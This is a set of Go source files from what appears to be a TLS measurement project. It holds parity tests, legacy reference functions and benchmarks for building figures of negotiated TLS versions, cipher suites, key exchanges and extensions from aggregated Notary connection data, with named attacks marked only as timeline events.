			t.Fatalf("%s %s: %d points, want %d", want.ID, ws.Name, len(gs.Points), len(ws.Points))
		}
		for j := range ws.Points {
			wp, gp := ws.Points[j], gs.Points[j]
			if gp.Month != wp.Month {
				t.Fatalf("%s %s point %d: month %v, want %v", want.ID, ws.Name, j, gp.Month, wp.Month)
			}
			if gp.Value != wp.Value {
				t.Fatalf("%s %s at %v: value %v, want %v (exact parity required)",
					want.ID, ws.Name, wp.Month, gp.Value, wp.Value)
			}
		}
	}
	if !reflect.DeepEqual(got.Events, want.Events) {
		t.Fatalf("%s: events %v, want %v", want.ID, got.Events, want.Events)
	}
}

// TestFrameFigureParity is the golden parity test of the refactor: every
// catalog figure built from the Frame must exactly equal the seed's
// map-walking output on a fixed-seed study.
func TestFrameFigureParity(t *testing.T) {
	agg := sharedAgg(t)
	f := sharedFrame(t)

	legacy := legacyAllFigures(agg)
	frame := f.Figures()
	if len(frame) != len(legacy) {
		t.Fatalf("%d frame figures, want %d", len(frame), len(legacy))
	}
	for i := range legacy {
		requireFigureEqual(t, legacy[i], frame[i])
	}

	ext, ok := f.FigureByName("extensions")
	if !ok {
		t.Fatal("extensions figure missing")
	}
	requireFigureEqual(t, legacyExtensionUptake(agg), ext)
}

// TestFrameScalarParity pins the scalar pipeline to the seed output.
func TestFrameScalarParity(t *testing.T) {
	agg := sharedAgg(t)
	f := sharedFrame(t)

	want := legacyPassiveScalars(agg)
	got := PassiveScalarsFrame(f)
	if len(got) != len(want) {
		t.Fatalf("%d scalars, want %d", len(got), len(want))
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("scalar %s: got %+v, want %+v", want[i].ID, got[i], want[i])
		}
	}

	if !reflect.DeepEqual(CurveSharesFrame(f), legacyCurveSharesOverall(agg)) {
		t.Error("curve shares diverge from the map-walking output")
	}
	if !reflect.DeepEqual(TLS13VariantSharesFrame(f), legacyTLS13VariantShares(agg)) {
		t.Error("TLS 1.3 variant shares diverge from the map-walking output")
	}
}

// monthSplitSink shards a record stream across two aggregates by month
// parity — the same month-granular partitioning the parallel simulation
// pipeline uses, so per-month counters never split across shards.
type monthSplitSink struct {
	a, b *notary.Aggregate
}

func (s *monthSplitSink) Observe(r *notary.Record) error {
	if timeline.MonthOf(r.Date).Index()%2 == 0 {
		s.a.Add(r)
	} else {
		s.b.Add(r)
	}
	return nil
}

func (s *monthSplitSink) Close() error { return nil }

// TestFrameMergeProperty: the frame of merged shard aggregates equals the
// frame of the unsharded stream.
func TestFrameMergeProperty(t *testing.T) {
	opts := simulate.DefaultOptions(150)
	opts.End = timeline.M(2013, time.December)
	opts.Workers = 1

	whole := notary.NewAggregate()
	split := &monthSplitSink{a: notary.NewAggregate(), b: notary.NewAggregate()}
	if err := simulate.New(opts).Run(notary.Tee(whole, split)); err != nil {
		t.Fatal(err)
	}

	merged := notary.NewAggregate()
	merged.Merge(split.a)
	merged.Merge(split.b)

	fWhole, fMerged := NewFrame(whole), NewFrame(merged)
	if !reflect.DeepEqual(fWhole, fMerged) {
		t.Fatal("Frame(merge(a, b)) != Frame(unsharded stream)")
	}
}

func TestFrameRowAndSeriesIndex(t *testing.T) {
	f := sharedFrame(t)
	if f.Len() == 0 {
		t.Fatal("empty frame")
	}
	for i, m := range f.Months {
		if row, ok := f.Row(m); !ok || row != i {
			t.Fatalf("Row(%v) = %d,%v, want %d,true", m, row, ok, i)
		}
	}
	if _, ok := f.Row(timeline.M(1999, time.January)); ok {
		t.Error("row for unobserved month")
	}

	fig, _ := f.FigureByNum(1)
	s := fig.Series[0]
	if s.index == nil {
		t.Fatal("frame-built series carries no month index")
	}
	// The indexed lookup must agree with a linear scan over the points.
	linear := Series{Name: s.Name, Points: s.Points}
	for _, m := range f.Months {
		want, wantOK := linear.Value(m)
		got, gotOK := s.Value(m)
		if got != want || gotOK != wantOK {
			t.Fatalf("indexed Value(%v) = %v,%v, want %v,%v", m, got, gotOK, want, wantOK)
		}
	}
	if _, ok := s.Value(timeline.M(1999, time.January)); ok {
		t.Error("indexed lookup reported a missing month present")
	}
}

func TestFrameStalenessGeneration(t *testing.T) {
	opts := simulate.DefaultOptions(40)
	opts.End = timeline.M(2012, time.June)
	agg, err := simulate.New(opts).RunAggregate()
	if err != nil {
		t.Fatal(err)
	}
	f := NewFrame(agg)
	if f.Generation() != agg.Generation() {
		t.Fatalf("fresh frame generation %d != aggregate %d", f.Generation(), agg.Generation())
	}
	more, err := simulate.New(opts).RunAggregate()
	if err != nil {
		t.Fatal(err)
	}
	agg.Merge(more) // ingest more records: the frame must become stale
	if f.Generation() == agg.Generation() {
		t.Error("frame not detectably stale after aggregate mutation")
	}
	if NewFrame(agg).Generation() != agg.Generation() {
		t.Error("rebuilt frame generation lags the aggregate")
	}
}

func TestCatalogLookups(t *testing.T) {
	specs := Catalog()
	if len(specs) != 12 {
		t.Fatalf("catalog has %d entries, want 12 (Figures 1-10 + E1 + E2)", len(specs))
	}
	names := map[string]bool{}
	for _, spec := range specs {
		if spec.ID == "" || spec.Name == "" || spec.Title == "" || len(spec.Metrics) == 0 {
			t.Errorf("malformed spec %+v", spec)
		}
		if names[spec.Name] {
			t.Errorf("duplicate catalog name %q", spec.Name)
		}
		names[spec.Name] = true
		byName, ok := SpecByName(spec.Name)
		if !ok || byName.ID != spec.ID {
			t.Errorf("SpecByName(%q) failed", spec.Name)
		}
	}
	for n := 1; n <= 10; n++ {
		spec, ok := SpecByNum(n)
		if !ok {
			t.Fatalf("no spec for figure %d", n)
		}
		if want := fmt.Sprintf("Figure %d", n); spec.ID != want {
			t.Errorf("SpecByNum(%d).ID = %q, want %q", n, spec.ID, want)
		}
	}
	if _, ok := SpecByNum(11); ok {
		t.Error("SpecByNum(11) should not resolve")
	}
	if _, ok := SpecByNum(0); ok {
		t.Error("SpecByNum(0) must not leak the extras")
	}
	if _, ok := SpecByName("no-such-figure"); ok {
		t.Error("SpecByName on unknown name should fail")
	}
}
