package analysis

// This file preserves the pre-Frame, map-walking figure and scalar
// implementations exactly as the seed shipped them. They are the golden
// reference for the frame/catalog parity tests (frame_test.go) and the
// baseline side of BenchmarkAllFiguresLegacy — they must not be "improved".

import (
	"sort"
	"testing"
	"time"

	"tlsage/internal/notary"
	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

type legacyMetric func(ms *notary.MonthStats) float64

func legacyBuildSeries(agg *notary.Aggregate, name string, f legacyMetric) Series {
	s := Series{Name: name}
	for _, m := range agg.Months() {
		s.Points = append(s.Points, Point{Month: m, Value: f(agg.Stats(m))})
	}
	return s
}

func legacyFigure1Versions(agg *notary.Aggregate) Figure {
	ver := func(v registry.Version) legacyMetric {
		return func(ms *notary.MonthStats) float64 { return ms.PctEstablished(ms.ByVersion[v]) }
	}
	return Figure{
		ID:    "Figure 1",
		Title: "Negotiated SSL/TLS versions (% monthly connections)",
		Series: []Series{
			legacyBuildSeries(agg, "SSLv3", ver(registry.VersionSSL3)),
			legacyBuildSeries(agg, "TLSv10", ver(registry.VersionTLS10)),
			legacyBuildSeries(agg, "TLSv11", ver(registry.VersionTLS11)),
			legacyBuildSeries(agg, "TLSv12", ver(registry.VersionTLS12)),
			legacyBuildSeries(agg, "TLSv13", ver(registry.VersionTLS13)),
		},
		Events: attackEvents(timeline.EventLucky13, timeline.EventPOODLE, timeline.EventRC4,
			timeline.EventSnowden, timeline.EventRC4Passwords, timeline.EventRC4NoMore,
			timeline.EventSweet32),
	}
}

func legacyFigure2NegotiatedClasses(agg *notary.Aggregate) Figure {
	cls := func(c string) legacyMetric {
		return func(ms *notary.MonthStats) float64 { return ms.PctEstablished(ms.ByClass[c]) }
	}
	return Figure{
		ID:    "Figure 2",
		Title: "Negotiated connections using RC4, CBC or AEAD (%)",
		Series: []Series{
			legacyBuildSeries(agg, "AEAD", cls("AEAD")),
			legacyBuildSeries(agg, "CBC", cls("CBC")),
			legacyBuildSeries(agg, "RC4", cls("RC4")),
		},
		Events: attackEvents(timeline.EventLucky13, timeline.EventPOODLE, timeline.EventRC4,
			timeline.EventSnowden, timeline.EventRC4Passwords, timeline.EventRC4NoMore,
			timeline.EventSweet32),
	}
}

func legacyFigure3Advertised(agg *notary.Aggregate) Figure {
	return Figure{
		ID:    "Figure 3",
		Title: "Client-advertised RC4 / DES / 3DES / AEAD (% connections)",
		Series: []Series{
			legacyBuildSeries(agg, "AEAD", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvAEAD) }),
			legacyBuildSeries(agg, "RC4", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvRC4) }),
			legacyBuildSeries(agg, "DES", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvDES) }),
			legacyBuildSeries(agg, "3DES", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.Adv3DES) }),
		},
		Events: attackEvents(timeline.EventLucky13, timeline.EventPOODLE, timeline.EventRC4,
			timeline.EventRC4Passwords, timeline.EventRC4NoMore, timeline.EventSweet32),
	}
}

func legacyFigure4FingerprintClasses(agg *notary.Aggregate) Figure {
	fpPct := func(sel func(*notary.FPCaps) bool) legacyMetric {
		return func(ms *notary.MonthStats) float64 {
			if len(ms.FPs) == 0 {
				return 0
			}
			n := 0
			for _, caps := range ms.FPs {
				if sel(caps) {
					n++
				}
			}
			return 100 * float64(n) / float64(len(ms.FPs))
		}
	}
	return Figure{
		ID:    "Figure 4",
		Title: "Fingerprints supporting RC4 / DES / 3DES / AEAD (% monthly fingerprints)",
		Series: []Series{
			legacyBuildSeries(agg, "AEAD", fpPct(func(c *notary.FPCaps) bool { return c.AEAD })),
			legacyBuildSeries(agg, "RC4", fpPct(func(c *notary.FPCaps) bool { return c.RC4 })),
			legacyBuildSeries(agg, "DES", fpPct(func(c *notary.FPCaps) bool { return c.DES })),
			legacyBuildSeries(agg, "3DES", fpPct(func(c *notary.FPCaps) bool { return c.TDES })),
		},
		Events: attackEvents(timeline.EventPOODLE, timeline.EventRC4Passwords,
			timeline.EventRC4NoMore, timeline.EventSweet32),
	}
}

func legacyFigure5Positions(agg *notary.Aggregate) Figure {
	pos := func(class string) legacyMetric {
		return func(ms *notary.MonthStats) float64 {
			if ms.PosCount[class] == 0 {
				return 0
			}
			return 100 * ms.PosSum[class] / float64(ms.PosCount[class])
		}
	}
	var series []Series
	for _, class := range []string{"AEAD", "CBC", "RC4", "DES", "3DES"} {
		series = append(series, legacyBuildSeries(agg, class, pos(class)))
	}
	return Figure{
		ID:     "Figure 5",
		Title:  "Average relative position of first advertised cipher by class (%)",
		Series: series,
	}
}

func legacyFigure6RC4Advertised(agg *notary.Aggregate) Figure {
	return Figure{
		ID:    "Figure 6",
		Title: "Connections with client-advertised RC4 (%)",
		Series: []Series{
			legacyBuildSeries(agg, "RC4 advertised", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvRC4) }),
		},
		Events: attackEvents(timeline.EventRC4, timeline.EventRFC7465,
			timeline.EventRC4Passwords, timeline.EventRC4NoMore),
	}
}

func legacyFigure7WeakAdvertised(agg *notary.Aggregate) Figure {
	return Figure{
		ID:    "Figure 7",
		Title: "Client-advertised Export / Anonymous / NULL suites (% connections)",
		Series: []Series{
			legacyBuildSeries(agg, "Export", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvExport) }),
			legacyBuildSeries(agg, "Anonymous", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvAnon) }),
			legacyBuildSeries(agg, "Null", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvNULL) }),
		},
		Events: attackEvents(timeline.EventFREAK, timeline.EventLogjam),
	}
}

func legacyFigure8Kex(agg *notary.Aggregate) Figure {
	kex := func(k registry.KeyExchange) legacyMetric {
		return func(ms *notary.MonthStats) float64 { return ms.PctEstablished(ms.ByKex[k]) }
	}
	ecdhe := func(ms *notary.MonthStats) float64 {
		return ms.PctEstablished(ms.ByKex[registry.KexECDHE] + ms.ByKex[registry.KexTLS13])
	}
	return Figure{
		ID:    "Figure 8",
		Title: "Negotiated RSA / DHE / ECDHE key exchange (% connections)",
		Series: []Series{
			legacyBuildSeries(agg, "RSA", kex(registry.KexRSA)),
			legacyBuildSeries(agg, "DHE", kex(registry.KexDHE)),
			legacyBuildSeries(agg, "ECDHE", ecdhe),
		},
		Events: attackEvents(timeline.EventSnowden),
	}
}

func legacyFigure9AEADNegotiated(agg *notary.Aggregate) Figure {
	suiteSel := func(sel func(registry.Suite) bool) legacyMetric {
		return func(ms *notary.MonthStats) float64 {
			n := 0
			for id, c := range ms.BySuite {
				if s, ok := registry.SuiteByID(id); ok && sel(s) {
					n += c
				}
			}
			return ms.PctEstablished(n)
		}
	}
	return Figure{
		ID:    "Figure 9",
		Title: "Negotiated AEAD ciphers (% connections)",
		Series: []Series{
			legacyBuildSeries(agg, "AEAD Total", suiteSel(registry.Suite.IsAEAD)),
			legacyBuildSeries(agg, "AES128-GCM", suiteSel(func(s registry.Suite) bool {
				return s.Mode == registry.ModeGCM && s.Cipher == registry.CipherAES128
			})),
			legacyBuildSeries(agg, "AES256-GCM", suiteSel(func(s registry.Suite) bool {
				return s.Mode == registry.ModeGCM && s.Cipher == registry.CipherAES256
			})),
			legacyBuildSeries(agg, "ChaCha20-Poly1305", suiteSel(func(s registry.Suite) bool {
				return s.Cipher == registry.CipherChaCha20
			})),
		},
	}
}

func legacyFigure10AEADAdvertised(agg *notary.Aggregate) Figure {
	return Figure{
		ID:    "Figure 10",
		Title: "Client-advertised AEAD ciphers (% connections)",
		Series: []Series{
			legacyBuildSeries(agg, "AES128-GCM", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvAESGCM128) }),
			legacyBuildSeries(agg, "AES256-GCM", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvAESGCM256) }),
			legacyBuildSeries(agg, "ChaCha20-Poly1305", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvChaCha) }),
			legacyBuildSeries(agg, "AES-CCM", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvCCM) }),
		},
	}
}

func legacyExtensionUptake(agg *notary.Aggregate) Figure {
	ext := func(id registry.ExtensionID) legacyMetric {
		return func(ms *notary.MonthStats) float64 { return ms.Pct(ms.ByExtension[id]) }
	}
	return Figure{
		ID:    "Figure E1",
		Title: "Client-advertised TLS extensions (% connections)",
		Series: []Series{
			legacyBuildSeries(agg, "renegotiation_info", ext(registry.ExtRenegotiationInfo)),
			legacyBuildSeries(agg, "encrypt_then_mac", ext(registry.ExtEncryptThenMAC)),
			legacyBuildSeries(agg, "extended_master_secret", ext(registry.ExtExtendedMasterSecret)),
			legacyBuildSeries(agg, "session_ticket", ext(registry.ExtSessionTicket)),
			legacyBuildSeries(agg, "server_name", ext(registry.ExtServerName)),
			legacyBuildSeries(agg, "heartbeat", ext(registry.ExtHeartbeat)),
			legacyBuildSeries(agg, "supported_versions", ext(registry.ExtSupportedVersions)),
		},
		Events: attackEvents(timeline.EventLucky13, timeline.EventHeartbleed),
	}
}

func legacyAllFigures(agg *notary.Aggregate) []Figure {
	return []Figure{
		legacyFigure1Versions(agg),
		legacyFigure2NegotiatedClasses(agg),
		legacyFigure3Advertised(agg),
		legacyFigure4FingerprintClasses(agg),
		legacyFigure5Positions(agg),
		legacyFigure6RC4Advertised(agg),
		legacyFigure7WeakAdvertised(agg),
		legacyFigure8Kex(agg),
		legacyFigure9AEADNegotiated(agg),
		legacyFigure10AEADAdvertised(agg),
	}
}

func legacyCurveSharesOverall(agg *notary.Aggregate) []CurveShare {
	totals := map[registry.CurveID]int{}
	grand := 0
	for _, m := range agg.Months() {
		for c, n := range agg.Stats(m).ByCurve {
			totals[c] += n
			grand += n
		}
	}
	out := make([]CurveShare, 0, len(totals))
	for c, n := range totals {
		out = append(out, CurveShare{Curve: c, Share: 100 * float64(n) / float64(grand)})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Share != out[j].Share {
			return out[i].Share > out[j].Share
		}
		return out[i].Curve < out[j].Curve
	})
	return out
}

func legacyTLS13VariantShares(agg *notary.Aggregate) []TLS13VariantShare {
	totals := map[registry.Version]int{}
	grand := 0
	for _, m := range agg.Months() {
		for v, n := range agg.Stats(m).TLS13Variant {
			totals[v] += n
			grand += n
		}
	}
	out := make([]TLS13VariantShare, 0, len(totals))
	for v, n := range totals {
		out = append(out, TLS13VariantShare{Variant: v, Share: 100 * float64(n) / float64(grand)})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Share != out[j].Share {
			return out[i].Share > out[j].Share
		}
		return out[i].Variant < out[j].Variant
	})
	return out
}

func legacyPassiveScalars(agg *notary.Aggregate) []Scalar {
	var out []Scalar
	get := func(y int, m time.Month) *notary.MonthStats {
		return agg.Stats(timeline.M(y, m))
	}
	pctOr := func(ms *notary.MonthStats, f func(*notary.MonthStats) float64) float64 {
		if ms == nil {
			return 0
		}
		return f(ms)
	}

	feb18 := get(2018, time.February)
	mar18 := get(2018, time.March)
	apr18 := get(2018, time.April)

	out = append(out,
		Scalar{"S-F1a", "TLS 1.0 negotiated, Feb 2018", 2.8,
			pctOr(feb18, func(ms *notary.MonthStats) float64 {
				return ms.PctEstablished(ms.ByVersion[registry.VersionTLS10])
			}), "%"},
		Scalar{"S-F1b", "TLS 1.2 negotiated, Feb 2018", 90,
			pctOr(feb18, func(ms *notary.MonthStats) float64 {
				return ms.PctEstablished(ms.ByVersion[registry.VersionTLS12])
			}), "%"},
		Scalar{"S7a", "TLS 1.3 client support, Feb 2018", 0.5,
			pctOr(feb18, func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvTLS13) }), "%"},
		Scalar{"S7b", "TLS 1.3 client support, Mar 2018", 9.8,
			pctOr(mar18, func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvTLS13) }), "%"},
		Scalar{"S7c", "TLS 1.3 client support, Apr 2018", 23.6,
			pctOr(apr18, func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvTLS13) }), "%"},
		Scalar{"S7d", "TLS 1.3 negotiated, Apr 2018", 1.3,
			pctOr(apr18, func(ms *notary.MonthStats) float64 {
				return ms.PctEstablished(ms.ByVersion[registry.VersionTLS13])
			}), "%"},
		Scalar{"S3c", "heartbeat negotiated, 2018", 3.0,
			pctOr(mar18, func(ms *notary.MonthStats) float64 { return ms.Pct(ms.HeartbeatAckN) }), "%"},
		Scalar{"S-F3a", "3DES advertised, Mar 2018", 69,
			pctOr(mar18, func(ms *notary.MonthStats) float64 { return ms.Pct(ms.Adv3DES) }), "%"},
		Scalar{"S-F7a", "export advertised, 2012", 28.19,
			pctOr(get(2012, time.June), func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvExport) }), "%"},
		Scalar{"S-F7b", "export advertised, 2018", 1.03,
			pctOr(mar18, func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvExport) }), "%"},
	)

	var est, nullNeg, anonNeg int
	for _, m := range agg.Months() {
		ms := agg.Stats(m)
		est += ms.Established
		nullNeg += ms.NULLNegotiated
		anonNeg += ms.AnonNegotiated
	}
	if est > 0 {
		out = append(out,
			Scalar{"S-61", "NULL negotiated, whole dataset", 2.84,
				100 * float64(nullNeg) / float64(est), "%"},
			Scalar{"S-62", "anonymous negotiated, whole dataset", 0.17,
				100 * float64(anonNeg) / float64(est), "%"},
		)
	}

	shares := legacyCurveSharesOverall(agg)
	lookup := func(c registry.CurveID) float64 {
		for _, s := range shares {
			if s.Curve == c {
				return s.Share
			}
		}
		return 0
	}
	out = append(out,
		Scalar{"S6a", "secp256r1 share, whole dataset", 84.4, lookup(registry.CurveSecp256r1), "%"},
		Scalar{"S6b", "secp384r1 share, whole dataset", 8.6, lookup(registry.CurveSecp384r1), "%"},
		Scalar{"S6c", "x25519 share, whole dataset", 6.7, lookup(registry.CurveX25519), "%"},
	)
	if feb18 != nil {
		grand := 0
		for _, n := range feb18.ByCurve {
			grand += n
		}
		if grand > 0 {
			out = append(out, Scalar{"S6d", "x25519 share, Feb 2018", 22.2,
				100 * float64(feb18.ByCurve[registry.CurveX25519]) / float64(grand), "%"})
		}
	}
	return out
}

// --- before/after benchmarks ---

// BenchmarkAllFiguresLegacy is the recorded pre-refactor baseline: all ten
// figures plus the extension figure, each series re-walking the aggregate
// maps.
func BenchmarkAllFiguresLegacy(b *testing.B) {
	agg := sharedAgg(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		figs := legacyAllFigures(agg)
		if len(figs) != 10 {
			b.Fatal("figure count")
		}
		_ = legacyExtensionUptake(agg)
	}
}

// BenchmarkAllFiguresFrame is the same workload on the frame path,
// including the frame build itself.
func BenchmarkAllFiguresFrame(b *testing.B) {
	agg := sharedAgg(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f := NewFrame(agg)
		figs := f.Figures()
		if len(figs) != 10 {
			b.Fatal("figure count")
		}
		if _, ok := f.FigureByName("extensions"); !ok {
			b.Fatal("extensions figure")
		}
	}
}
