// Package analysis turns aggregated Notary data into the paper's figures
// and summary statistics: monthly percentage series (Figures 1–10), the
// §4.1 fingerprint lifetime report and the §5/§6 scalar findings. Renderers
// produce aligned text tables and ASCII charts, one per artifact.
package analysis

import (
	"sort"

	"tlsage/internal/notary"
	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

// Point is one monthly value of a series.
type Point struct {
	Month timeline.Month
	Value float64 // percentage 0..100 (NaN-free; missing months are skipped)
}

// Series is a named monthly percentage series.
type Series struct {
	Name   string
	Points []Point
}

// Value returns the series value at m, ok=false when absent.
func (s *Series) Value(m timeline.Month) (float64, bool) {
	for _, p := range s.Points {
		if p.Month == m {
			return p.Value, true
		}
	}
	return 0, false
}

// Figure is a reproduced figure: an identifier, its series and the attack
// events drawn as vertical markers.
type Figure struct {
	ID     string
	Title  string
	Series []Series
	Events []timeline.Event
}

// SeriesByName locates a series.
func (f *Figure) SeriesByName(name string) (*Series, bool) {
	for i := range f.Series {
		if f.Series[i].Name == name {
			return &f.Series[i], true
		}
	}
	return nil, false
}

// metric maps one month's stats to a percentage.
type metric func(ms *notary.MonthStats) float64

// buildSeries evaluates a metric over every observed month.
func buildSeries(agg *notary.Aggregate, name string, f metric) Series {
	s := Series{Name: name}
	for _, m := range agg.Months() {
		s.Points = append(s.Points, Point{Month: m, Value: f(agg.Stats(m))})
	}
	return s
}

func attackEvents(names ...string) []timeline.Event {
	var out []timeline.Event
	for _, e := range timeline.Events() {
		for _, n := range names {
			if e.Name == n {
				out = append(out, e)
			}
		}
	}
	return out
}

// Figure1Versions reproduces Figure 1: negotiated SSL/TLS versions as a
// percentage of monthly established connections.
func Figure1Versions(agg *notary.Aggregate) Figure {
	ver := func(v registry.Version) metric {
		return func(ms *notary.MonthStats) float64 { return ms.PctEstablished(ms.ByVersion[v]) }
	}
	return Figure{
		ID:    "Figure 1",
		Title: "Negotiated SSL/TLS versions (% monthly connections)",
		Series: []Series{
			buildSeries(agg, "SSLv3", ver(registry.VersionSSL3)),
			buildSeries(agg, "TLSv10", ver(registry.VersionTLS10)),
			buildSeries(agg, "TLSv11", ver(registry.VersionTLS11)),
			buildSeries(agg, "TLSv12", ver(registry.VersionTLS12)),
			buildSeries(agg, "TLSv13", ver(registry.VersionTLS13)),
		},
		Events: attackEvents(timeline.EventLucky13, timeline.EventPOODLE, timeline.EventRC4,
			timeline.EventSnowden, timeline.EventRC4Passwords, timeline.EventRC4NoMore,
			timeline.EventSweet32),
	}
}

// Figure2NegotiatedClasses reproduces Figure 2: connections negotiating
// RC4, CBC or AEAD suites.
func Figure2NegotiatedClasses(agg *notary.Aggregate) Figure {
	cls := func(c string) metric {
		return func(ms *notary.MonthStats) float64 { return ms.PctEstablished(ms.ByClass[c]) }
	}
	return Figure{
		ID:    "Figure 2",
		Title: "Negotiated connections using RC4, CBC or AEAD (%)",
		Series: []Series{
			buildSeries(agg, "AEAD", cls("AEAD")),
			buildSeries(agg, "CBC", cls("CBC")),
			buildSeries(agg, "RC4", cls("RC4")),
		},
		Events: attackEvents(timeline.EventLucky13, timeline.EventPOODLE, timeline.EventRC4,
			timeline.EventSnowden, timeline.EventRC4Passwords, timeline.EventRC4NoMore,
			timeline.EventSweet32),
	}
}

// Figure3Advertised reproduces Figure 3: connections whose client advertises
// RC4, DES, 3DES or AEAD suites.
func Figure3Advertised(agg *notary.Aggregate) Figure {
	return Figure{
		ID:    "Figure 3",
		Title: "Client-advertised RC4 / DES / 3DES / AEAD (% connections)",
		Series: []Series{
			buildSeries(agg, "AEAD", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvAEAD) }),
			buildSeries(agg, "RC4", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvRC4) }),
			buildSeries(agg, "DES", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvDES) }),
			buildSeries(agg, "3DES", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.Adv3DES) }),
		},
		Events: attackEvents(timeline.EventLucky13, timeline.EventPOODLE, timeline.EventRC4,
			timeline.EventRC4Passwords, timeline.EventRC4NoMore, timeline.EventSweet32),
	}
}

// Figure4FingerprintClasses reproduces Figure 4: the share of distinct
// monthly fingerprints whose cipher list includes RC4 / DES / 3DES / AEAD.
func Figure4FingerprintClasses(agg *notary.Aggregate) Figure {
	fpPct := func(sel func(*notary.FPCaps) bool) metric {
		return func(ms *notary.MonthStats) float64 {
			if len(ms.FPs) == 0 {
				return 0
			}
			n := 0
			for _, caps := range ms.FPs {
				if sel(caps) {
					n++
				}
			}
			return 100 * float64(n) / float64(len(ms.FPs))
		}
	}
	return Figure{
		ID:    "Figure 4",
		Title: "Fingerprints supporting RC4 / DES / 3DES / AEAD (% monthly fingerprints)",
		Series: []Series{
			buildSeries(agg, "AEAD", fpPct(func(c *notary.FPCaps) bool { return c.AEAD })),
			buildSeries(agg, "RC4", fpPct(func(c *notary.FPCaps) bool { return c.RC4 })),
			buildSeries(agg, "DES", fpPct(func(c *notary.FPCaps) bool { return c.DES })),
			buildSeries(agg, "3DES", fpPct(func(c *notary.FPCaps) bool { return c.TDES })),
		},
		Events: attackEvents(timeline.EventPOODLE, timeline.EventRC4Passwords,
			timeline.EventRC4NoMore, timeline.EventSweet32),
	}
}

// Figure5Positions reproduces Figure 5: the average relative position (%)
// of the first AEAD/CBC/RC4/DES/3DES suite in client-advertised lists.
func Figure5Positions(agg *notary.Aggregate) Figure {
	pos := func(class string) metric {
		return func(ms *notary.MonthStats) float64 {
			if ms.PosCount[class] == 0 {
				return 0
			}
			return 100 * ms.PosSum[class] / float64(ms.PosCount[class])
		}
	}
	var series []Series
	for _, class := range []string{"AEAD", "CBC", "RC4", "DES", "3DES"} {
		series = append(series, buildSeries(agg, class, pos(class)))
	}
	return Figure{
		ID:     "Figure 5",
		Title:  "Average relative position of first advertised cipher by class (%)",
		Series: series,
	}
}

// Figure6RC4Advertised reproduces Figure 6: connections where the client
// advertises RC4, with browser-removal events.
func Figure6RC4Advertised(agg *notary.Aggregate) Figure {
	return Figure{
		ID:    "Figure 6",
		Title: "Connections with client-advertised RC4 (%)",
		Series: []Series{
			buildSeries(agg, "RC4 advertised", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvRC4) }),
		},
		Events: attackEvents(timeline.EventRC4, timeline.EventRFC7465,
			timeline.EventRC4Passwords, timeline.EventRC4NoMore),
	}
}

// Figure7WeakAdvertised reproduces Figure 7: connections advertising
// Export, Anonymous or NULL suites.
func Figure7WeakAdvertised(agg *notary.Aggregate) Figure {
	return Figure{
		ID:    "Figure 7",
		Title: "Client-advertised Export / Anonymous / NULL suites (% connections)",
		Series: []Series{
			buildSeries(agg, "Export", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvExport) }),
			buildSeries(agg, "Anonymous", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvAnon) }),
			buildSeries(agg, "Null", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvNULL) }),
		},
		Events: attackEvents(timeline.EventFREAK, timeline.EventLogjam),
	}
}

// Figure8Kex reproduces Figure 8: negotiated RSA vs DHE vs ECDHE key
// exchanges (TLS 1.3 counts as ECDHE, as its key exchange is ephemeral).
func Figure8Kex(agg *notary.Aggregate) Figure {
	kex := func(k registry.KeyExchange) metric {
		return func(ms *notary.MonthStats) float64 { return ms.PctEstablished(ms.ByKex[k]) }
	}
	ecdhe := func(ms *notary.MonthStats) float64 {
		return ms.PctEstablished(ms.ByKex[registry.KexECDHE] + ms.ByKex[registry.KexTLS13])
	}
	return Figure{
		ID:    "Figure 8",
		Title: "Negotiated RSA / DHE / ECDHE key exchange (% connections)",
		Series: []Series{
			buildSeries(agg, "RSA", kex(registry.KexRSA)),
			buildSeries(agg, "DHE", kex(registry.KexDHE)),
			buildSeries(agg, "ECDHE", ecdhe),
		},
		Events: attackEvents(timeline.EventSnowden),
	}
}

// Figure9AEADNegotiated reproduces Figure 9: connections negotiating
// AES-GCM (128/256), ChaCha20-Poly1305, and any AEAD.
func Figure9AEADNegotiated(agg *notary.Aggregate) Figure {
	suiteSel := func(sel func(registry.Suite) bool) metric {
		return func(ms *notary.MonthStats) float64 {
			n := 0
			for id, c := range ms.BySuite {
				if s, ok := registry.SuiteByID(id); ok && sel(s) {
					n += c
				}
			}
			return ms.PctEstablished(n)
		}
	}
	return Figure{
		ID:    "Figure 9",
		Title: "Negotiated AEAD ciphers (% connections)",
		Series: []Series{
			buildSeries(agg, "AEAD Total", suiteSel(registry.Suite.IsAEAD)),
			buildSeries(agg, "AES128-GCM", suiteSel(func(s registry.Suite) bool {
				return s.Mode == registry.ModeGCM && s.Cipher == registry.CipherAES128
			})),
